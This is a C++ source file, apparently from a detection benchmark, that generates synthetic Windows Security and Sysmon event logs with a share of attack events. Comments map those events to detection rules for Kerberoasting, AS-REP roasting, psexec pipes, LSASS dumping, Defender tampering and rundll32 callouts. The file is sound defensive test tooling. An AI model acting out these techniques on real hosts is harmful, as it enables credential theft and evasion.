  // Appends one event (without the newline); returns its kind and whether it is an attack.
  std::pair<EventKind, bool> next() {
    now_ms_ += static_cast<std::int64_t>(rng_.below(3));
    ++record_id_;
    if (rng_.chance(options_.attack_share)) return {attack(), true};
    return {benign(), false};
  }

 private:
  // ---- Envelope ----
  void begin(JsonWriter& w, const Envelope& env) {
    const bool lean = options_.lean;
    const std::string ts = format_time(now_ms_, true);
    w.begin_object();
    w.string("@timestamp", ts);
    w.begin_object("@metadata");
    w.string("beat", "winlogbeat");
    w.string("type", "_doc");
    w.string("version", "8.14.3");
    w.end_object();
    w.begin_object("agent");
    w.string("type", "winlogbeat");
    w.string("version", "8.14.3");
    w.string("name", env.host->name);
    if (!lean) {
      w.string("id", env.host->agent_id);
      w.string("ephemeral_id", env.host->ephemeral_id);
    }
    w.end_object();
    if (!lean) {
      w.begin_object("ecs");
      w.string("version", "8.0.0");
      w.end_object();
    }
    w.begin_object("host");
    w.string("name", env.host->fqdn);
    w.end_object();
    if (!lean) {
      w.begin_object("log");
      w.string("level", "information");
      w.end_object();
    }
    w.begin_object("event");
    w.string("code", env.code);
    w.string("kind", "event");
    w.string("provider", env.sysmon ? kSysmonProvider : kSecurityProvider);
    w.string("action", env.action);
    // Drawn in both shapes, so that lean and full corpora hold the same events.
    const auto created_ms = now_ms_ + 400 + static_cast<std::int64_t>(rng_.below(500));
    if (!lean) w.string("created", format_time(created_ms, true));
    if (!env.sysmon) w.string("outcome", env.success ? "success" : "failure");
    w.end_object();
    if (!lean) w.string("message", env.message);
    w.begin_object("winlog");
    if (!lean) w.string("api", "wineventlog");
    w.string("channel", env.sysmon ? kSysmonChannel : "Security");
    w.string("computer_name", env.host->computer_name);
    w.string("event_id", env.code);
    w.string("provider_name", env.sysmon ? kSysmonProvider : kSecurityProvider);
    if (!lean) w.string("provider_guid", env.sysmon ? kSysmonGuid : kSecurityGuid);
    w.string("record_id", std::to_string(record_id_));
    w.string("task", env.action);
    if (!lean) w.string("opcode", "Info");
    if (!env.sysmon) w.string_array("keywords", {env.success ? "Audit Success" : "Audit Failure"});
    const auto thread_id = rng_.range(1000, 9000);
    if (!lean) {
      w.begin_object("process");
      w.number("pid", env.sysmon ? 3040 : 680);
      w.begin_object("thread");
      w.number("id", thread_id);
      w.end_object();
      w.end_object();
    }
    if (env.sysmon && !lean) {
      w.begin_object("user");
      w.string("identifier", "S-1-5-18");
      w.string("name", "SYSTEM");
      w.string("domain", "NT AUTHORITY");
      w.string("type", "User");
      w.end_object();
    }
    w.number("version", env.version);
    w.begin_object("event_data");
  }
  static void end(JsonWriter& w) {
    w.end_object();  // event_data
    w.end_object();  // winlog
    w.end_object();
  }

  // ---- Picks ----
  const Host& workstation() { return rng_.pick(world_.workstations); }
  const Host& dc() { return rng_.pick(world_.dcs); }
  const Host& any_host() {
    const std::size_t r = rng_.below(10);
    if (r < 6) return workstation();
    if (r < 7) return rng_.pick(world_.file_servers);
    return rng_.pick(world_.servers);
  }
  const User& user() { return rng_.pick(world_.users); }
  const User& account(Account a) {
    if (a == Account::kAdmin) return rng_.pick(world_.admins);
    return user();
  }
  std::string logon_id() { return hex(rng_.range(0x100000, 0xfffffff)); }
  std::string port() { return std::to_string(rng_.range(49152, 65535)); }
  std::string vpn_or_lan_ip() {
    if (rng_.chance(0.2)) return "10.212.134." + std::to_string(rng_.range(2, 250));
    return workstation().ip;
  }
  std::string pid() { return std::to_string(rng_.range(100, 16000) * 4); }

  std::string expand(std::string_view tmpl, std::string_view user_name) {
    std::string out;
    out.reserve(tmpl.size() + 32);
    for (std::size_t i = 0; i < tmpl.size(); ++i) {
      if (tmpl[i] == '{') {
        const std::size_t close = tmpl.find('}', i);
        const std::string_view name = tmpl.substr(i + 1, close - i - 1);
        if (name == "user") {
          out += user_name;
        } else if (name == "n") {
          out += std::to_string(rng_.range(1000, 99999));
        } else if (name == "guid") {
          out += upper(guid(rng_));
        } else if (name == "doc") {
          out += rng_.pick(world_.documents);
        } else {
          out += tmpl.substr(i, close - i + 1);  // not a placeholder ({default}...)
        }
        i = close;
      } else {
        out += tmpl[i];
      }
    }
    return out;
  }

  // ---- Benign traffic ----
  EventKind benign() {
    // Per mille: logon-heavy, as in a domain's Security logs, with Sysmon on endpoints.
    const std::size_t r = rng_.below(1000);
    if (r < 170) return security_4624(false);
    if (r < 310) return security_4634();
    if (r < 370) return security_4672();
    if (r < 390) return security_4625(false);
    if (r < 440) return process_creation(pick_benign(), false);
    if (r < 480) return security_4768(false);
    if (r < 560) return security_4769(false);
    if (r < 600) return security_4776();
    if (r < 630) return security_5140();
    if (r < 690) return security_5145(false);
    if (r < 770) return process_creation(pick_benign(), true);
    if (r < 890) return sysmon_3(false);
    if (r < 950) return sysmon_11(false);
    return sysmon_13(false);
  }

  const Launch& pick_benign() {
    std::size_t r = rng_.below(total_weight_);
    for (const auto& l : benign_launches()) {
      if (r < l.weight) return l;
      r -= l.weight;
    }
    return benign_launches().front();
  }

  EventKind attack() {
    const std::size_t r = rng_.below(100);
    if (r < 70) {
      const auto& launches = attack_launches();
      const Launch& l = launches[rng_.below(launches.size())];  // two draws: sequence them
      return process_creation(l, rng_.chance(0.7));
    }
    if (r < 76) return security_4769(true);
    if (r < 81) return security_5145(true);
    if (r < 86) return security_4625(true);
    if (r < 90) return security_4768(true);
    if (r < 94) return sysmon_3(true);
    if (r < 97) return sysmon_11(true);
    return sysmon_13(true);
  }

  // ---- Security ----
  EventKind security_4624(bool) {
    JsonWriter w(out_);
    const bool machine = rng_.chance(0.35);
    const Host& target = rng_.chance(0.4) ? dc() : any_host();
    const Host& source = workstation();
    const User& u = user();
    begin(w, {&target, "4624", "Logon", "An account was successfully logged on.", false, true, 2});
    static const std::vector<std::string_view> kTypes = {"3", "3", "3", "2", "7", "10", "11", "5"};
    const std::string_view type = machine ? "3" : rng_.pick(kTypes);
    const bool kerberos = machine || rng_.chance(0.7);
    w.string("SubjectUserSid", "S-1-0-0");
    w.string("SubjectUserName", "-");
    w.string("SubjectDomainName", "-");
    w.string("SubjectLogonId", "0x0");
    w.string(
        "TargetUserSid",
        machine ? std::string(kDomainSid) + "-" + std::to_string(rng_.range(2000, 3000)) : u.sid);
    w.string("TargetUserName", machine ? source.name + "$" : u.name);
    w.string("TargetDomainName", kDomain);
    w.string("TargetLogonId", logon_id());
    w.string("LogonType", type);
    w.string("LogonProcessName", kerberos ? "Kerberos" : "NtLmSsp ");
    w.string("AuthenticationPackageName", kerberos ? "Kerberos" : "NTLM");
    w.string("WorkstationName", kerberos ? "-" : source.name);
    w.string("LogonGuid", guid(rng_));
    w.string("TransmittedServices", "-");
    w.string("LmPackageName", kerberos ? "-" : "NTLM V2");
    w.string("KeyLength", "0");
    w.string("ProcessId", "0x0");
    w.string("ProcessName", "-");
    w.string("IpAddress", source.ip);
    w.string("IpPort", port());
    w.string("ImpersonationLevel", "%%1833");
    w.string("RestrictedAdminMode", "-");
    w.string("TargetOutboundUserName", "-");
    w.string("TargetOutboundDomainName", "-");
    w.string("VirtualAccount", "%%1843");
    w.string("TargetLinkedLogonId", "0x0");
    w.string("ElevatedToken", "%%1842");
    end(w);
    return EventKind::kSecurity4624;
  }

  EventKind security_4634() {
    JsonWriter w(out_);
    const User& u = user();
    begin(w, {&any_host(), "4634", "Logoff", "An account was logged off.", false, true, 0});
    w.string("TargetUserSid", u.sid);
    w.string("TargetUserName", u.name);
    w.string("TargetDomainName", kDomain);
    w.string("TargetLogonId", logon_id());
    w.string("LogonType", rng_.chance(0.8) ? "3" : "2");
    end(w);
    return EventKind::kSecurity4634;
  }

  EventKind security_4672() {
    JsonWriter w(out_);
    const User& u = rng_.chance(0.5) ? rng_.pick(world_.services) : rng_.pick(world_.admins);
    begin(w, {&(rng_.chance(0.5) ? dc() : any_host()), "4672", "Special Logon",
              "Special privileges assigned to new logon.", false, true, 0});
    w.string("SubjectUserSid", u.sid);
    w.string("SubjectUserName", u.name);
    w.string("SubjectDomainName", kDomain);
    w.string("SubjectLogonId", logon_id());
    w.string(
        "PrivilegeList",
        "SeSecurityPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\tSeRestorePrivilege\r\n\t\t\t"
        "SeTakeOwnershipPrivilege\r\n\t\t\tSeDebugPrivilege\r\n\t\t\tSeSystemEnvironmentPrivilege"
        "\r\n\t\t\tSeLoadDriverPrivilege\r\n\t\t\tSeImpersonatePrivilege");
    end(w);
    return EventKind::kSecurity4672;
  }

  // attack: a disabled account (win_security_susp_failed_logon_reasons).
  EventKind security_4625(bool attack) {
    JsonWriter w(out_);
    const User& u = user();
    const Host& source = workstation();
    begin(w, {&(rng_.chance(0.5) ? dc() : any_host()), "4625", "Logon",
              "An account failed to log on.", false, false, 0});
    w.string("SubjectUserSid", attack ? "S-1-5-18" : "S-1-0-0");
    w.string("SubjectUserName", attack ? source.name + "$" : "-");
    w.string("SubjectDomainName", attack ? kDomain : "-");
    w.string("SubjectLogonId", attack ? "0x3e7" : "0x0");
    w.string("TargetUserSid", "S-1-0-0");
    w.string("TargetUserName", u.name);
    w.string("TargetDomainName", kDomain);
    w.string("Status", attack ? "0xc0000072" : "0xc000006d");
    w.string("FailureReason", attack ? "%%2310" : "%%2313");
    w.string("SubStatus", attack ? "0xc0000072" : "0xc000006a");
    w.string("LogonType", attack ? "2" : "3");
    w.string("LogonProcessName", attack ? "User32 " : "NtLmSsp ");
    w.string("AuthenticationPackageName", attack ? "Negotiate" : "NTLM");
    w.string("WorkstationName", source.name);
    w.string("TransmittedServices", "-");
    w.string("LmPackageName", "-");
    w.string("KeyLength", "0");
    w.string("ProcessId", attack ? "0x1c4" : "0x0");
    w.string("ProcessName", attack ? R"(C:\Windows\System32\svchost.exe)" : "-");
    w.string("IpAddress", vpn_or_lan_ip());
    w.string("IpPort", port());
    end(w);
    return EventKind::kSecurity4625;
  }

  // attack: AS-REP roasting (win_security_kerberos_asrep_roasting).
  EventKind security_4768(bool attack) {
    JsonWriter w(out_);
    const User& u = user();
    begin(w, {&dc(), "4768", "Kerberos Authentication Service",
              "A Kerberos authentication ticket (TGT) was requested.", false, true, 0});
    w.string("TargetUserName", u.name);
    w.string("TargetDomainName", "GHT-EXEMPLE.LOCAL");
    w.string("TargetSid", u.sid);
    w.string("ServiceName", "krbtgt");
    w.string("ServiceSid", std::string(kDomainSid) + "-502");
    w.string("TicketOptions", "0x40810010");
    w.string("Status", "0x0");
    w.string("TicketEncryptionType", attack ? "0x17" : "0x12");
    w.string("PreAuthType", attack ? "0" : "2");
    w.string("IpAddress", "::ffff:" + vpn_or_lan_ip());
    w.string("IpPort", port());
    w.string("CertIssuerName", "");
    w.string("CertSerialNumber", "");
    w.string("CertThumbprint", "");
    end(w);
    return EventKind::kSecurity4768;
  }

  // attack: an RC4 ticket for a user service account (win_security_kerberoasting_activity,
  // win_security_susp_rc4_kerberos).
  EventKind security_4769(bool attack) {
    JsonWriter w(out_);
    const User& u = user();
    const Host& service = rng_.pick(world_.servers);
    begin(w, {&dc(), "4769", "Kerberos Service Ticket Operations",
              "A Kerberos service ticket was requested.", false, true, 0});
    w.string("TargetUserName", u.name + "@GHT-EXEMPLE.LOCAL");
    w.string("TargetDomainName", "GHT-EXEMPLE.LOCAL");
    w.string("ServiceName", attack ? rng_.pick(world_.services).name : service.name + "$");
    w.string("ServiceSid", std::string(kDomainSid) + "-" + std::to_string(rng_.range(1000, 3000)));
    w.string("TicketOptions", attack ? "0x40810000" : "0x40810010");
    w.string("TicketEncryptionType", attack ? "0x17" : "0x12");
    w.string("IpAddress", "::ffff:" + vpn_or_lan_ip());
    w.string("IpPort", port());
    w.string("Status", "0x0");
    w.string("LogonGuid", guid(rng_));
    w.string("TransmittedServices", "-");
    end(w);
    return EventKind::kSecurity4769;
  }

  EventKind security_4776() {
    JsonWriter w(out_);
    const bool failed = rng_.chance(0.1);
    begin(w, {&dc(), "4776", "Credential Validation",
              "The computer attempted to validate the credentials for an account.", false, !failed,
              0});
    w.string("PackageName", "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0");
    w.string("TargetUserName", user().name);
    w.string("Workstation", workstation().name);
    w.string("Status", failed ? "0xc000006a" : "0x0");
    end(w);
    return EventKind::kSecurity4776;
  }

  EventKind security_5140() {
    JsonWriter w(out_);
    const bool sysvol = rng_.chance(0.5);
    const User& u = user();
    const Host& source = workstation();
    begin(w, {&(sysvol ? dc() : rng_.pick(world_.file_servers)), "5140", "File Share",
              "A network share object was accessed.", false, true, 1});
    w.string("SubjectUserSid", u.sid);
    w.string("SubjectUserName", u.name);
    w.string("SubjectDomainName", kDomain);
    w.string("SubjectLogonId", logon_id());
    w.string("ObjectType", "File");
    w.string("IpAddress", source.ip);
    w.string("IpPort", port());
    w.string("ShareName", sysvol ? R"(\\*\SYSVOL)" : R"(\\*\Services)");
    w.string("ShareLocalPath",
             sysvol ? R"(\??\C:\Windows\SYSVOL\sysvol)" : R"(\??\D:\Partages\Services)");
    w.string("AccessMask", "0x1");
    w.string("AccessList", "%%4416\r\n\t\t\t\t");
    end(w);
    return EventKind::kSecurity5140;
  }

  // attack: impacket psexec pipes (win_security_impacket_psexec) or the spooler pipe
  // (win_security_dce_rpc_smb_spoolss_named_pipe).
  EventKind security_5145(bool attack) {
    JsonWriter w(out_);
    const User& u = attack ? rng_.pick(world_.admins) : user();
    const Host& source = workstation();
    const bool sysvol = rng_.chance(0.4);
    begin(w, {&(attack || sysvol ? dc() : rng_.pick(world_.file_servers)), "5145",
              "Detailed File Share",
              "A network share object was checked to see whether client can be granted desired "
              "access.",
              false, true, 0});
    w.string("SubjectUserSid", u.sid);
    w.string("SubjectUserName", u.name);
    w.string("SubjectDomainName", kDomain);
    w.string("SubjectLogonId", logon_id());
    w.string("ObjectType", "File");
    w.string("IpAddress", source.ip);
    w.string("IpPort", port());
    if (attack) {
      w.string("ShareName", R"(\\*\IPC$)");
      w.string("ShareLocalPath", "");
      w.string("RelativeTargetName",
               rng_.chance(0.5) ? "RemCom_stdin" + hex_digits(rng_, 8) : "spoolss");
    } else if (sysvol) {
      w.string("ShareName", R"(\\*\SYSVOL)");
      w.string("ShareLocalPath", R"(\??\C:\Windows\SYSVOL\sysvol)");
      w.string("RelativeTargetName",
               R"(ght-exemple.local\Policies\{31B2F340-016D-11D2-945F-00C04FB984F9}\gpt.ini)");
    } else {
      w.string("ShareName", R"(\\*\Services)");
      w.string("ShareLocalPath", R"(\??\D:\Partages\Services)");
      w.string("RelativeTargetName", R"(Cardiologie\)" + rng_.pick(world_.documents) + ".xlsx");
    }
    w.string("AccessMask", "0x12019f");
    w.string("AccessList", "%%1538\r\n\t\t\t\t%%1541\r\n\t\t\t\t%%4416\r\n\t\t\t\t");
    w.string("AccessReason", "-");
    end(w);
    return EventKind::kSecurity5145;
  }

  // ---- Process creation: Sysmon 1 or Security 4688 ----
  EventKind process_creation(const Launch& l, bool sysmon) {
    JsonWriter w(out_);
    const Host& host =
        (l.account == Account::kSystem || l.account == Account::kAdmin) && rng_.chance(0.3)
            ? rng_.pick(world_.servers)
            : workstation();
    const User& u = account(l.account);
    const bool system = l.account == Account::kSystem;
    const std::string cmd = expand(l.cmd, u.name);
    const Image& img = kImages[l.image];
    const Image& parent = kImages[l.parent];
    if (sysmon) {
      begin(w,
            {&host, "1", "Process Create (rule: ProcessCreate)", "Process Create:", true, true, 5});
      w.string("RuleName", "-");
      w.string("UtcTime", format_time(now_ms_, false));
      w.string("ProcessGuid", guid(rng_));
      w.string("ProcessId", pid());
      w.string("Image", img.path);
      w.string("FileVersion", img.version);
      w.string("Description", img.description);
      w.string("Product", img.product);
      w.string("Company", img.company);
      w.string("OriginalFileName", img.original);
      w.string("CommandLine", cmd);
      w.string("CurrentDirectory",
               system ? std::string(R"(C:\Windows\system32\)") : R"(C:\Users\)" + u.name + R"(\)");
      w.string("User", system ? std::string(R"(NT AUTHORITY\SYSTEM)")
                              : std::string(kDomain) + "\\" + u.name);
      w.string("LogonGuid", guid(rng_));
      w.string("LogonId", system ? std::string("0x3e7") : logon_id());
      w.string("TerminalSessionId", system ? "0" : "1");
      w.string("IntegrityLevel", l.integrity);
      w.string("Hashes", "MD5=" + digest(img.path, 1, 32) + ",SHA256=" + digest(img.path, 2, 64) +
                             ",IMPHASH=" + digest(img.path, 3, 32));
      w.string("ParentProcessGuid", guid(rng_));
      w.string("ParentProcessId", pid());
      w.string("ParentImage", parent.path);
      w.string("ParentCommandLine", expand(l.parent_cmd, u.name));
      w.string("ParentUser", system ? std::string(R"(NT AUTHORITY\SYSTEM)")
                                    : std::string(kDomain) + "\\" + u.name);
      end(w);
      return EventKind::kSysmon1;
    }
    begin(w,
          {&host, "4688", "Process Creation", "A new process has been created.", false, true, 2});
    w.string("SubjectUserSid", system ? std::string("S-1-5-18") : u.sid);
    w.string("SubjectUserName", system ? host.name + "$" : u.name);
    w.string("SubjectDomainName", kDomain);
    w.string("SubjectLogonId", system ? std::string("0x3e7") : logon_id());
    w.string("NewProcessId", hex(rng_.range(100, 16000) * 4));
    w.string("NewProcessName", img.path);
    w.string("TokenElevationType", l.integrity == "High" ? "%%1937" : "%%1936");
    w.string("ProcessId", hex(rng_.range(100, 16000) * 4));
    w.string("CommandLine", cmd);
    w.string("TargetUserSid", "S-1-0-0");
    w.string("TargetUserName", "-");
    w.string("TargetDomainName", "-");
    w.string("TargetLogonId", "0x0");
    w.string("ParentProcessName", parent.path);
    w.string("MandatoryLabel", l.integrity == "System" ? "S-1-16-16384"
                               : l.integrity == "High" ? "S-1-16-12288"
                               : l.integrity == "Low"  ? "S-1-16-4096"
                                                       : "S-1-16-8192");
    end(w);
    return EventKind::kSecurity4688;
  }

  // ---- Sysmon 3: network connection ----
  // attack: rundll32 calling out to a public address (net_connection_win_rundll32_net_connections).
  EventKind sysmon_3(bool attack) {
    JsonWriter w(out_);
    const Host& host = workstation();
    const User& u = user();
    struct Conn {
      ImageId image;
      std::string_view port;
      std::string_view port_name;
      bool external;
    };
    static const std::vector<Conn> kConns = {
        {kChrome, "443", "https", true},          {kEdge, "443", "https", true},
        {kOutlook, "443", "https", true},         {kSvchost, "445", "microsoft-ds", false},
        {kLsass, "389", "ldap", false},           {kLsass, "88", "kerberos", false},
        {kSvchost, "135", "epmap", false},        {kJavaw, "8443", "-", false},
        {kMstsc, "3389", "ms-wbt-server", false}, {kMsMpEng, "443", "https", true},
    };
    const Conn c = attack ? Conn{kRundll32, "443", "https", true} : rng_.pick(kConns);
    const bool system = c.image == kSvchost || c.image == kMsMpEng || c.image == kLsass;
    begin(w, {&host, "3", "Network connection detected (rule: NetworkConnect)",
              "Network connection detected:", true, true, 5});
    w.string("RuleName", "-");
    w.string("UtcTime", format_time(now_ms_, false));
    w.string("ProcessGuid", guid(rng_));
    w.string("ProcessId", pid());
    w.string("Image", kImages[c.image].path);
    w.string("User",
             system ? std::string(R"(NT AUTHORITY\SYSTEM)") : std::string(kDomain) + "\\" + u.name);
    w.string("Protocol", "tcp");
    w.boolean("Initiated", true);
    w.boolean("SourceIsIpv6", false);
    w.string("SourceIp", host.ip);
    w.string("SourceHostname", host.fqdn);
    w.string("SourcePort", port());
    w.string("SourcePortName", "-");
    w.boolean("DestinationIsIpv6", false);
    const Host& server = c.port == "445" ? rng_.pick(world_.file_servers)
                         : c.port == "389" || c.port == "88" || c.port == "135"
                             ? dc()
                             : rng_.pick(world_.servers);
    std::string ext_ip = rng_.chance(0.5) ? "203.0.113." : "198.51.100.";
    ext_ip += std::to_string(rng_.range(1, 254));
    w.string("DestinationIp", c.external ? ext_ip : server.ip);
    w.string("DestinationHostname", c.external ? "-" : server.fqdn);
    w.string("DestinationPort", c.port);
    w.string("DestinationPortName", c.port_name);
    end(w);
    return EventKind::kSysmon3;
  }

  // ---- Sysmon 11: file created ----
  // attack: an LSASS dump written by rundll32 (file_event_win_lsass_default_dump_file_names).
  EventKind sysmon_11(bool attack) {
    JsonWriter w(out_);
    const Host& host = workstation();
    const User& u = user();
    ImageId image = kChrome;
    std::string target;
    if (attack) {
      image = kRundll32;
      target = R"(C:\Users\Public\lsass.dmp)";
    } else {
      switch (rng_.below(5)) {
        case 0:
          image = kChrome;
          target =
              R"(C:\Users\)" + u.name + R"(\Downloads\)" + rng_.pick(world_.documents) + ".pdf";
          break;
        case 1:
          image = kWord;
          target = R"(C:\Users\)" + u.name + R"(\AppData\Roaming\Microsoft\Word\~WRL)" +
                   std::to_string(rng_.range(1000, 9999)) + ".tmp";
          break;
        case 2:
          image = kSvchost;
          target = R"(C:\Windows\Prefetch\CHROME.EXE-)" + upper(hex_digits(rng_, 8)) + ".pf";
          break;
        case 3:
          image = kEdge;
          target = R"(C:\Users\)" + u.name +
                   R"(\AppData\Local\Microsoft\Edge\User Data\Default\Cache\Cache_Data\f_)" +
                   hex_digits(rng_, 6);
          break;
        default:
          image = kJavaw;
          target = R"(C:\Users\)" + u.name + R"(\AppData\Local\Temp\dpi-)" + hex_digits(rng_, 12) +
                   ".log";
      }
    }
    const bool system = image == kSvchost || attack;
    begin(w, {&host, "11", "File created (rule: FileCreate)", "File created:", true, true, 2});
    w.string("RuleName", "-");
    w.string("UtcTime", format_time(now_ms_, false));
    w.string("ProcessGuid", guid(rng_));
    w.string("ProcessId", pid());
    w.string("Image", kImages[image].path);
    w.string("TargetFilename", target);
    w.string("CreationUtcTime", format_time(now_ms_ - 1, false));
    w.string("User",
             system ? std::string(R"(NT AUTHORITY\SYSTEM)") : std::string(kDomain) + "\\" + u.name);
    end(w);
    return EventKind::kSysmon11;
  }

  // ---- Sysmon 13: registry value set ----
  // attack: Defender disabled by policy (registry_set_windows_defender_tamper and kin).
  EventKind sysmon_13(bool attack) {
    JsonWriter w(out_);
    const Host& host = workstation();
    const User& u = user();
    ImageId image = kExplorer;
    std::string object;
    std::string details;
    if (attack) {
      image = kReg;
      object = R"(HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware)";
      details = "DWORD (0x00000001)";
    } else {
      switch (rng_.below(4)) {
        case 0:
          image = kExplorer;
          object = "HKU\\" + u.sid +
                   R"(\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\.docx\)" +
                   std::to_string(rng_.range(0, 40));
          details = "Binary Data";
          break;
        case 1:
          image = kSvchost;
          object = R"(HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\)" + u.sid +
                   R"(\\Device\HarddiskVolume3\Program Files\Google\Chrome\Application\chrome.exe)";
          details = "Binary Data";
          break;
        case 2:
          image = kMsMpEng;
          object =
              R"(HKLM\SOFTWARE\Microsoft\Windows Defender\Signature Updates\SignaturesLastUpdated)";
          details = "QWORD (0x01da75ff-0x" + hex_digits(rng_, 8) + ")";
          break;
        default:
          image = kWord;
          object = "HKU\\" + u.sid +
                   R"(\Software\Microsoft\Office\16.0\Word\Reading Locations\Document 0\Position)";
          details = std::to_string(rng_.range(0, 500)) + " 0";
      }
    }
    const bool system = image == kSvchost || image == kMsMpEng;
    begin(w, {&host, "13", "Registry value set (rule: RegistryEvent)", "Registry value set:", true,
              true, 2});
    w.string("RuleName", "-");
    w.string("EventType", "SetValue");
    w.string("UtcTime", format_time(now_ms_, false));
    w.string("ProcessGuid", guid(rng_));
    w.string("ProcessId", pid());
    w.string("Image", kImages[image].path);
    w.string("TargetObject", object);
    w.string("Details", details);
    w.string("User",
             system ? std::string(R"(NT AUTHORITY\SYSTEM)") : std::string(kDomain) + "\\" + u.name);
    end(w);
    return EventKind::kSysmon13;
  }

  const GeneratorOptions& options_;
  Rng rng_;
  World world_;
  std::string& out_;
  std::size_t total_weight_ = 0;
  std::int64_t now_ms_ = kStartMs;
  std::uint64_t record_id_ = 884200;
};

}  // namespace

std::string_view event_kind_name(EventKind kind) {
  static constexpr std::string_view kNames[kEventKindCount] = {
      "Security 4624", "Security 4625", "Security 4634", "Security 4672", "Security 4688",
      "Security 4768", "Security 4769", "Security 4776", "Security 5140", "Security 5145",
      "Sysmon 1",      "Sysmon 3",      "Sysmon 11",     "Sysmon 13"};
  return kNames[static_cast<std::size_t>(kind)];
}

EventCorpus generate_events(const GeneratorOptions& options) {
  EventCorpus corpus;
  corpus.buffer_.reserve(options.events * 1400 + EventCorpus::kPadding);
  corpus.starts_.reserve(options.events + 1);
  Generator gen(options, corpus.buffer_);
  for (std::size_t i = 0; i < options.events; ++i) {
    corpus.starts_.push_back(corpus.buffer_.size());
    const auto [kind, attack] = gen.next();
    corpus.buffer_ += '\n';
    ++corpus.kind_counts_[static_cast<std::size_t>(kind)];
    if (attack) ++corpus.attack_events_;
  }
  corpus.starts_.push_back(corpus.buffer_.size());
  corpus.bytes_ = corpus.buffer_.size() - options.events;
  corpus.buffer_.append(EventCorpus::kPadding, ' ');
  return corpus;
}

}  // namespace vigie::bench
